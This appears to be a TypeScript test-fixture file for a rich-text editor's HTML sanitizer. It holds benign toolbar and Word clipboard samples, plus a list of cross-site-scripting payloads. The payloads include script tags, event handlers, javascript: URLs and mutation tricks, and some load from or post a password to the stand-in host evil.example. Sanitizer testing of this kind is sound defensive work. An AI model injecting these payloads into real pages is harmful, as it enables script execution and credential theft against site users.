// HTML samples: attacks, output of the editor's toolbar, and a Word document.

const image = '/uploads/0b5c1f4e-8d2a-4f0e-9a57-3c1d2e4f5a6b.png';

/** Each sample runs `alert(1)`, loads from another origin or sends data if a page shows it unsanitized. */
export const hostileHtml: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC="https://evil.example/x.js"></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  `<img src="${image}" onload="alert(1)" style="position:fixed">`,
  '<img src="https://evil.example/pixel.gif">',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+">',
  `<img src="//evil.example${image}">`,
  `<img srcset="https://evil.example/a.png 1x" src="${image}">`,
  '<img """><script>alert(1)</script>">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JaVaScRiPt:alert(1)">click</a>',
  '<a href="&#106;avascript:alert(1)">click</a>',
  '<a href="java\nscript:alert(1)">click</a>',
  '<a href="\u0001javascript:alert(1)">click</a>',
  '<a href=" javascript:alert(1)">click</a>',
  '<a href="data:text/html,<script>alert(1)</script>">click</a>',
  '<a href="vbscript:msgbox(1)">click</a>',
  '<a href="//evil.example">click</a>',
  '<a href="https://good.example" onclick="alert(1)" style="display:block" id="login" name="x">click</a>',
  '<a href="https://good.example" target="_self" rel="opener">click</a>',
  '<p onmouseover="alert(1)" style="background:url(javascript:alert(1))" class="ant-btn" id="root">x</p>',
  '<h2 contenteditable onfocus=alert(1) autofocus tabindex=1>x</h2>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="https://evil.example/x.swf">',
  '<form action="https://evil.example"><input name="password"><button formaction="javascript:alert(1)">Sign in</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/x.css"><style>@import "https://evil.example/x.css";</style>',
  '<video><source onerror="alert(1)"></video><audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template>',
  '<textarea><script>alert(1)</script></textarea><xmp><img src=x onerror=alert(1)></xmp>',
  '<!--><img src=x onerror=alert(1)>--><![CDATA[<script>alert(1)</script>]]>',
  '<p>a</p><!-- <script>alert(1)</script> --><?php alert(1) ?>',
  `<strong><p><ul><li><script>alert(1)`,
  '<marquee onstart=alert(1)>x</marquee><dialog open>x</dialog><slot></slot><portal src="https://evil.example">',
];

/** The output of the editor's toolbar, as the browser serializes it. */
export const editorHtml: readonly string[] = [
  '<p>Plain text</p>',
  '<p>One</p><p><br></p><p>Two</p>',
  '<h2>Heading 2</h2><h3>Heading 3</h3><p>Text</p>',
  '<p><strong>bold</strong> <em>italic</em> <u>underlined</u> <strong><em><u>all</u></em></strong></p>',
  '<ul><li>one</li><li><strong>two</strong></li></ul>',
  '<ol><li>first</li><li>second</li></ol>',
  '<p><a href="https://example.com/a?b=1&amp;c=2#d" rel="noopener noreferrer" target="_blank">link</a></p>',
  '<p><a href="mailto:hello@example.com" rel="noopener noreferrer" target="_blank">mail</a></p>',
  `<p><img src="${image}" alt="A red &quot;boot&quot; &amp; laces"></p>`,
  `<p>Before <img src="${image}"> behind</p>`,
  '<p>1 &lt; 2 &amp;&amp; 3 &gt; 2; "quoted" ’ – … ünï 日本語 🙂&nbsp;&nbsp;end</p>',
  '<h3><a href="http://example.com/" rel="noopener noreferrer" target="_blank"><strong>bold link</strong></a></h3>',
];

/** Clipboard HTML of Word. */
export const wordHtml = `<html xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w="urn:schemas-microsoft-com:office:word">
<head><meta name=Generator content="Microsoft Word 15"><style><!-- p.MsoNormal {margin:0cm; font-family:Calibri;} --></style></head>
<body lang=EN-GB style='tab-interval:36.0pt'><!--StartFragment-->
<h1 style='margin-top:12.0pt'><span lang=EN-GB style='color:#2F5496'>Our plan<o:p></o:p></span></h1>
<p class=MsoNormal style='mso-margin-top-alt:auto'><b><span style='font-size:14.0pt;color:red'>Bold</span></b><span style='mso-spacerun:yes'> </span>and
<i>italic</i> text<o:p></o:p></p>
<!--[if gte mso 9]><xml><w:WordDocument><w:View>Normal</w:View></w:WordDocument></xml><![endif]-->
<p class=MsoNormal><a href="https://example.com/plan"><span style='color:windowtext'>The plan</span></a><o:p>&nbsp;</o:p></p>
<!--EndFragment--></body></html>`;
